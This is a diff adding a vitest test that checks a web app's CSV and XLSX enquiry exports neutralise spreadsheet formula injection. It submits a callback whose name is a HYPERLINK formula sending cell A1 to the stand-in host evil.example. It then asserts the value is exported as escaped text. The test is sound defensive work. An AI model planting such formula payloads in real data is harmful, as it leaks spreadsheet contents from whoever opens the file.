@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { eq } from 'drizzle-orm'
 import ExcelJS from 'exceljs'
 import { beforeAll, describe, expect, it } from 'vitest'
@@ -215,6 +216,33 @@ describe('downloads', () => {
     expect(lines).toHaveLength(2)
     expect(lines[1]).toContain('Kavita Joshi')
     expect(lines[1]).toContain('"Pune, ""Camp"""')
+  })
+
+  it('CSV: a public callback named as a formula comes out as text (a leading apostrophe), in the XLSX as a string', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    const sent = await postJson(server.url, '/api/callback', {
+      name,
+      phone: '9733001177',
+      email: '',
+      message: '@SUM(1,2)',
+    })
+    expect(sent.status).toBe(200)
+    const res = await getPage(server.url, '/enquiries/download?format=csv&q=9733001177', cookies.query)
+    expect(res.status).toBe(200)
+    const text = Buffer.from(await res.arrayBuffer())
+      .subarray(3)
+      .toString('utf8')
+    const [header, row] = parse(text) as string[][]
+    expect(row![header!.indexOf('Name')]).toBe(`'${name}`)
+    expect(row![header!.indexOf('Message')]).toBe("'@SUM(1,2)")
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
+
+    const xlsx = await getPage(server.url, '/enquiries/download?format=xlsx&q=9733001177', cookies.query)
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer)
+    const cell = book.worksheets[0]!.getRow(2).getCell(4)
+    expect(cell.type).toBe(ExcelJS.ValueType.String)
+    expect(cell.value).toBe(name)
   })
 
   it('XLSX: a workbook with the header row and typed cells', async () => {
